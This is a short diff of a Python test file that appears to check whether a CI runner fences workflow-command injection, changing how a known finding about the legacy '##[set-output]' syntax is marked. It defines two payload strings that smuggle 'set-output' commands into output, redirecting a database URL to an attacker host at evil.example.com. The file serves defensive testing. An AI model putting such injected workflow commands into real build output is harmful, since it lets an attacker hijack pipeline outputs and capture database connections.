@@ -31,11 +31,7 @@ APP = "my-db"
 V2 = "\n::set-output name=database-url::postgres://attacker@evil.example.com/x"
 V1 = " ##[set-output name=database-url;]postgres://attacker@evil.example.com/x"
 PAYLOADS = {"v2-newline": V2, "v1-inline": V1}
-LEGACY_FINDING = pytest.mark.xfail(
-    strict=True,
-    reason="FINDINGS.md #6: Actions.info fences only lines that start with '::'; the runner "
-    "also runs legacy '##[command]' found anywhere in a line",
-)
+LEGACY_FINDING = pytest.mark.finding(6)  # the legacy syntax was not fenced
 
 
 def payload_params() -> list[Any]:
